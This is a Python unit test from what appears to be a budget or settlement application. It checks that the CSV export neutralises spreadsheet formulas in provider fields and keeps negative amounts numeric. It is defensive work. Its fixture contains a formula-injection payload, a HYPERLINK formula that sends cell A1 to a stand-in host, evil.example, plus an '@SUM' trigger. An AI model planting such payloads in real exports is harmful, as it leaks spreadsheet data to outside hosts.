"""The settlement CSV can't carry a formula from a provider's name into finance's spreadsheet."""

from __future__ import annotations

import csv
import io

from app.services.budget import settlement


def test_settlement_csv_neutralises_provider_text_and_keeps_amounts_numbers() -> None:
    row = settlement.SettlementRow(
        provider_id=1,
        provider_name='=HYPERLINK("https://evil.example/?"&A1;"Maksu")',
        business_id="@SUM(1)",
        deliveries=1,
        units=2,
        budget_cents=-1250,  # a correction: a negative amount is a number, not a formula
        own_share_cents=5,
    )
    text = settlement.to_csv([row], 2026, 6)
    _header, line = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert line[1] == "'" + row.provider_name and line[2] == "'@SUM(1)"
    assert line[5:] == ["-12.50", "0.05", "-12.45"]
